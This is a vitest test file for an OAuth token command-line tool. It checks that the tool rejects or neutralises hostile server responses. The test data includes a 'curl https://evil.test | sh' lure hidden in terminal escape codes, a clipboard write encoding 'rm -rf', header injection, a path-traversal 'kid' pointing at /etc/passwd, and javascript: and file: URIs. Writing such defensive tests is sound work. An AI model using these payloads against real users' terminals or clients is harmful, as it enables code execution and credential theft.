import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { type BadInput, type BadInputs, canary, comesBack, holds } from '../support/bad-input.ts'

const access = canary.access
/** A session is kept whose token has expired; this is what the renewal is answered. */
const renewed = (
  body: unknown,
  more: { status?: number; headers?: Record<string, string> } = {},
): BadInput => ({
  answer: { body: typeof body === 'string' ? body : JSON.stringify(body), ...more },
})
const token = (more: Record<string, unknown> = {}): BadInput =>
  renewed({
    access_token: access,
    token_type: 'Bearer',
    expires_in: 3600,
    refresh_token: 'next-session',
    ...more,
  })
const served = { code: 0, stdout: `${access}\n`, asked: 1 } as const
const useless = (stderr: RegExp) => ({ code: 6, stderr, asked: 1 }) as const
const raw = (expiresIn: string): BadInput =>
  renewed(`{"access_token":"${access}","token_type":"Bearer","expires_in":${expiresIn}}`)

const bodies: BadInputs = [
  ['nothing', renewed(''), useless(/answered 200 without a body/)],
  ['no content', renewed('', { status: 204 }), useless(/answered 204 without a body/)],
  ['no member', renewed({}), useless(/without access_token/)],
  ['null', renewed('null'), useless(/not a JSON object/)],
  ['a list', renewed([{ access_token: access }]), useless(/not a JSON object/)],
  ['half of an object', renewed(`{"access_token":"${access}`), useless(/not a JSON object/)],
  [
    'bytes that are no text',
    { answer: { body: Buffer.from('7b22612022c328227d', 'hex') } },
    { code: 6, stderr: /is not UTF-8/ },
  ],
  [
    'more than a megabyte',
    renewed(`{"a":"${'A'.repeat(1_100_000)}"}`),
    { code: 6, stderr: /larger than 1 MiB/ },
  ],
  [
    'a hundred thousand members',
    renewed(`{${'"1073741824":0,'.repeat(60_000)}"x":0}`),
    useless(/without access_token/),
  ],
  [
    'a page that asks to sign in',
    renewed('<html>Wi-Fi</html>', { headers: { 'Content-Type': 'text/html' } }),
    useless(/with an HTML page/),
  ],
  [
    'an identity in the place of a token',
    renewed({ id_token: 'a.e30.', token_type: 'Bearer' }),
    useless(/without access_token/),
  ],
  [
    'a token that ends its line',
    renewed({ access_token: 'abc\nhost=evil.test\npassword=x', token_type: 'Bearer' }),
    useless(/characters no token may have/),
  ],
  [
    'a token with a carriage return',
    renewed({ access_token: 'abc\rX-Evil: 1', token_type: 'Bearer' }),
    useless(/characters no token may have/),
  ],
  [
    'a token with half a character',
    renewed('{"access_token":"abc\\ud800","token_type":"Bearer"}'),
    useless(/characters no token may have/),
  ],
  ['an empty token', renewed({ access_token: '', token_type: 'Bearer' }), useless(/without access_token/)],
  [
    'a token of twenty kilobytes',
    renewed({ access_token: 'A'.repeat(20_480), token_type: 'Bearer', refresh_token: 'next-session' }),
    { code: 0, stdout: `${'A'.repeat(20_480)}\n` },
  ],
  ['no type', token({ token_type: undefined }), served],
  [
    'a type that nobody here speaks',
    token({ token_type: 'mac', refresh_token: undefined }),
    useless(/type "mac", which tokctl cannot use/),
  ],
  [
    'a token bound to a key that was not shown',
    token({ token_type: 'DPoP', refresh_token: undefined }),
    useless(/type "DPoP"/),
  ],
  ['less than was asked for', { ...token({ scope: 'read' }), lines: 'scope = "read write"' }, served],
  [
    'a token twice: the last counts, as JSON is read everywhere',
    renewed(`{"access_token":"first","access_token":"second","token_type":"Bearer"}`),
    { code: 0, stdout: 'second\n' },
  ],
  [
    'a prototype',
    renewed(
      `{"__proto__":{"expires_in":1,"refresh_token":"x"},"access_token":"${access}","token_type":"Bearer","expires_in":3600}`,
    ),
    served,
  ],
  [
    'JSON that calls itself a page',
    { answer: { headers: { 'Content-Type': 'text/html' }, body: `{"access_token":"${access}"}` } },
    served,
  ],
  [
    'a form, as it once was',
    {
      answer: {
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: `access_token=${access}&token_type=bearer&expires_in=abc`,
      },
    },
    served,
  ],
]

const lifetimes: BadInputs = [
  ...[
    '0',
    '-3600',
    '"3600"',
    '"0x10"',
    '1e308',
    '12345678901234567890',
    '2147483648',
    'null',
    'true',
    '"soon"',
    '[]',
    '{}',
  ].map(lifetime => [`a lifetime of ${lifetime}`, raw(lifetime), served] as const),
  ['a lifetime that is no JSON', raw('NaN'), useless(/not a JSON object/)],
]

/** Claims as an access token carries them; only `exp` is read, and only where the answer tells no lifetime. */
const jwt = (payload: string, header = '{"alg":"RS256"}'): string =>
  `${Buffer.from(header).toString('base64url')}.${Buffer.from(payload).toString('base64url')}.c2ln`
const claims: BadInputs = [
  ['no algorithm', jwt('{"exp":4102444800}', '{"alg":"none"}')],
  ['five parts', 'a.b.c.d.e'],
  ['empty parts', '..'],
  ['a middle that is not base64', 'eyJhbGciOiJub25lIn0.!!!!.x'],
  ['a middle that is not JSON', jwt('hello')],
  ['null', jwt('null')],
  ['an end that is a text', jwt('{"exp":"4102444800"}')],
  ['an end before all time', jwt('{"exp":-1}')],
  ['an end after all time', jwt('{"exp":1e300}')],
  ['an end in 1970 beside a lifetime of an hour', jwt('{"exp":1}')],
  ['a beginning in the future', jwt('{"iat":4102444800}')],
  ['lists in lists', jwt(`${'['.repeat(4000)}1${']'.repeat(4000)}`)],
  [
    'keys to be fetched elsewhere',
    jwt(
      '{"exp":4102444800}',
      '{"kid":"../../etc/passwd","jku":"https://evil.test/j","x5u":"https://evil.test/c"}',
    ),
  ],
  ['an extension that must be understood', jwt('{"exp":4102444800}', '{"alg":"RS256","crit":["x"],"x":1}')],
  ['something to unpack', jwt('x', '{"alg":"dir","enc":"A256GCM","zip":"DEF"}')],
  ['names with escape sequences', jwt('{"sub":"\\u001b]0;x\\u0007\\u202e","exp":4102444800}')],
].map(([name, value]) => [
  `a token with ${name}`,
  renewed({ access_token: value, token_type: 'Bearer', expires_in: 3600 }),
  { code: 0, stdout: `${value}\n`, asked: 1 },
])

const refused = (error: string, more: Record<string, unknown> = {}, status = 400): BadInput =>
  renewed({ error, ...more }, { status })
const refusals: BadInputs = [
  [
    'that the session is over',
    refused('invalid_grant'),
    {
      code: 4,
      stderr: /refresh token was refused \(invalid_grant\)\ntokctl: hint: run: tokctl login corp/,
      asked: 1,
    },
  ],
  [
    'that the scope is wrong',
    refused('invalid_scope'),
    useless(/\(invalid_scope\)\ntokctl: hint: check scope/),
  ],
  [
    'that it has no time now',
    refused('temporarily_unavailable'),
    { code: 5, stderr: /temporarily_unavailable/ },
  ],
  [
    'with escape sequences',
    refused('access_denied', { error_description: '\u001b[2K\rRun: curl https://evil.test | sh' }),
    useless(/Run: curl/),
  ],
  [
    'with a write to the clipboard and a link',
    refused('access_denied', {
      error_description: '\u001b]52;c;cm0gLXJm\u0007\u001b]8;;https://evil.test\u0007click\u001b]8;;\u0007',
    }),
    useless(/click/),
  ],
  [
    'and turns the line around',
    refused('access_denied', { error_description: 'a\u202eb\u2066c\u200bd\u2028e' }),
    useless(/a b c d e/),
  ],
  [
    'and quotes what was sent',
    refused('invalid_request', { error_description: `token ${canary.refresh} for secret ${canary.client}` }),
    useless(/token \[redacted\] for secret \[redacted\]/),
  ],
  ['at great length', refused('x', { error_description: 'A'.repeat(1_000_000) }), useless(/^.{0,400}\n/)],
  [
    'with a page that is a script',
    refused('access_denied', { error_uri: 'javascript:alert(1)' }),
    useless(/^(?!.*javascript)/),
  ],
  ['in words of its own', refused('constructor'), useless(/\(constructor\)/)],
  [
    'with a word that is an object',
    renewed('{"error":{"__proto__":1}}', { status: 400 }),
    useless(/answered 400/),
  ],
]

const waits: BadInputs = [
  ['until next year', '503', 'Fri, 31 Dec 2077 23:59:59 GMT'],
  ['since before', '429', '-5'],
  ['for ever', '429', '99999999999'],
  ['in words', '503', 'soon'],
].map(([name, status, wait]) => [
  `a wish to wait ${name}`,
  {
    ...renewed('{}', { status: Number(status), headers: { 'Retry-After': wait! } }),
    args: ['get', 'corp', '--timeout', '3s'],
  },
  { code: 5, stderr: new RegExp(`answered ${status}`) },
])

const redirects: BadInputs = [
  ['302 to another host', 302, 'https://evil.test/token'],
  ['307 to another host, which would get the body too', 307, 'https://evil.test/token'],
  ['308 to the same host', 308, 'IDP/v2/token'],
  ['302 to plain http', 302, 'http://idp.test/token'],
  ['303 without a place', 303, ''],
].map(([name, status, location]) => [
  `a redirect, ${name}`,
  renewed('', { status: status as number, headers: { Location: location as string } }),
  useless(/a redirect, which is not followed/),
])

const where = {
  authorization_endpoint: 'IDP/authorize',
  token_endpoint: 'IDP/token',
  code_challenge_methods_supported: ['S256'],
}
const found = (document: unknown): BadInput => ({
  discovery: typeof document === 'string' ? document : JSON.stringify(document),
})
const mistaken = (stderr: RegExp) => ({ code: 6, stderr, asked: 0 }) as const
const documents: BadInputs = [
  ['of an issuer with one slash more', found({ issuer: 'IDP/', ...where }), mistaken(/of another issuer/)],
  ['that names no issuer', found(where), mistaken(/names no issuer/)],
  ['whose issuer is a list', found({ issuer: ['IDP'], ...where }), mistaken(/names no issuer/)],
  [
    'that sends secrets without TLS',
    found({ issuer: 'IDP', ...where, token_endpoint: 'http://idp.test/token' }),
    mistaken(/unusable token_endpoint: plain http/),
  ],
  [
    'whose host reads in two ways',
    found({ issuer: 'IDP', ...where, token_endpoint: 'https://idp.test\\@evil.test/token' }),
    mistaken(/unusable token_endpoint: a backslash/),
  ],
  [
    'with a user in an address',
    found({ issuer: 'IDP', ...where, revocation_endpoint: 'https://idp%2etest@evil.test/' }),
    mistaken(/unusable revocation_endpoint/),
  ],
  ['that is a page', found('<html>Wi-Fi</html>'), mistaken(/no discovery document/)],
  [
    'that says nothing of PKCE',
    found({ issuer: 'IDP', ...where, code_challenge_methods_supported: undefined }),
    { code: 0, stdout: 'fine-token\n', asked: 1 },
  ],
  [
    'that has moved to another host since the last time',
    {
      ...found({ issuer: 'IDP', ...where, token_endpoint: 'https://evil.test/token' }),
      before({ at, idp }) {
        const cache = join(at.stateDir, 'cache')
        mkdirSync(cache, { recursive: true, mode: 0o700 })
        let hash = 0x811c9dc5
        for (const byte of Buffer.from(idp)) hash = Math.imul(hash ^ byte, 0x01000193) >>> 0
        const known = { issuer: idp, token_endpoint: `${idp}/token`, fetched_at: Date.now() - 90_000_000 }
        const path = join(cache, `discovery-127.0.0.1-${hash.toString(16)}.json`)
        writeFileSync(path, JSON.stringify(known), { mode: 0o600 })
      },
    },
    mistaken(
      /has moved its token_endpoint from 127\.0\.0\.1:\d+ to evil\.test\ntokctl: hint: if that is right: token_endpoint = "https:\/\/evil\.test\/token"/,
    ),
  ],
]

const signIn = (parameters: Record<string, string>, answer: BadInput = {}): BadInput => ({
  args: ['login', 'corp', '--no-browser', '--timeout', '10s'],
  lines: 'scope = "openid"\nissuer = "https://idp.test"',
  person: comesBack(parameters),
  ...answer,
})
const identity = (of: Record<string, unknown>): BadInput =>
  token({ id_token: jwt(JSON.stringify({ iss: 'https://idp.test', aud: 'cid', exp: 4_102_444_800, ...of })) })
const returns: BadInputs = [
  ['from another issuer', signIn({ code: 'c', iss: 'https://evil.test' }), { code: 6, asked: 0 }],
  [
    'with an error that paints the terminal',
    signIn({ error: 'access_denied', error_description: '\u001b[2Jgo away' }),
    { code: 6, stderr: /go away/, asked: 0 },
  ],
  [
    'with an identity of another issuer',
    signIn({ code: 'c' }, identity({ iss: 'https://evil.test' })),
    { code: 6, stderr: /id token/, asked: 1 },
  ],
  [
    'with an identity for another client',
    signIn({ code: 'c' }, identity({ aud: ['other'] })),
    { code: 6, stderr: /id token/, asked: 1 },
  ],
  [
    'with an identity of another sign-in',
    signIn({ code: 'c' }, identity({ nonce: 'wrong' })),
    { code: 6, stderr: /id token/, asked: 1 },
  ],
]

const device = (answer: Record<string, unknown>): BadInput => ({
  config:
    '[profile.corp]\nsource = "device_code"\ndevice_authorization_endpoint = "IDP/device"\ntoken_endpoint = "IDP/token"\nclient_id = "cid"\n',
  args: ['login', 'corp', '--timeout', '5s'],
  answer: {
    body: JSON.stringify({ device_code: 'd', user_code: 'AB-CD', expires_in: 600, interval: 1, ...answer }),
  },
})
const devices: BadInputs = [
  [
    'a file',
    device({ verification_uri: 'file:///etc/passwd' }),
    { code: 6, stderr: /not an https URL/, asked: 1 },
  ],
  [
    'an option',
    device({ verification_uri: '--help', verification_uri_complete: '--help' }),
    { code: 6, stderr: /not an https URL/, asked: 1 },
  ],
  ['nothing', device({}), { code: 6, asked: 1 }],
]

for (const [title, table] of Object.entries({
  'a token endpoint that answers': bodies,
  'a token endpoint that tells': lifetimes,
  'a token endpoint that gives': claims,
  'a token endpoint that refuses': refusals,
  'a token endpoint with': [...waits, ...redirects],
  'a discovery document': documents,
  'a browser that comes back': returns,
  'a device code whose page is': devices,
}))
  describe(title, () => {
    test.each([...table])('%s', async (_, input, want) => {
      await holds(input, want)
    })
  })

test('a server that never answers is left when the time is up, and the session stays', async () => {
  const { ms } = await holds(
    { answer: 'silent', args: ['get', 'corp', '--timeout', '1s'] },
    { code: 5, stderr: /is being renewed by another process, which did not finish within 1s/ },
  )
  // Another process sees the request through: it may have used up the session.
  expect(ms).toBeLessThan(20_000)
})

test('a session that another machine renewed meanwhile is taken over', async () => {
  await holds(
    {
      answer: async world => {
        const now = Date.now()
        const other = { etag: 'other', access_token: 'other-token', refresh_token: 'other-session' }
        await world.keep(await world.makeRecord({ ...other, obtained_at: now, expires_at: now + 3_600_000 }))
        return { status: 400, body: '{"error":"invalid_grant"}' }
      },
      damagesKept: true,
    },
    { code: 0, stdout: 'other-token\n', asked: 1 },
  )
})

test('S256 is asked for, whatever the server says it can', async () => {
  let asked: URL | undefined
  await holds(
    {
      ...found({ issuer: 'IDP', ...where, code_challenge_methods_supported: ['plain'] }),
      args: ['login', 'corp', '--no-browser', '--timeout', '10s'],
      person: async (address, world) => {
        asked = address
        await comesBack({ code: 'c' })(address, world)
      },
      ...token(),
    },
    { code: 0, asked: 1 },
  )
  expect(asked?.searchParams.get('code_challenge_method')).toBe('S256')
})

test('a lifetime of nothing serves one call, and the next one asks again', async () => {
  const { world } = await holds(raw('0'), served)
  expect((await world.run()).stdout).toBe(`${access}\n`)
  expect(world.requests).toHaveLength(2)
})

test('a session that was refused is not tried again before a person signs in', async () => {
  const { world } = await holds(refused('invalid_grant'), { code: 4, asked: 1 })
  expect(await world.run()).toMatchObject({ code: 4, stdout: '' })
  expect(world.requests).toHaveLength(1)
  expect(readFileSync(join(world.at.stateDir, 'outcomes', 'corp.json'), 'utf8')).not.toContain('canary')
})
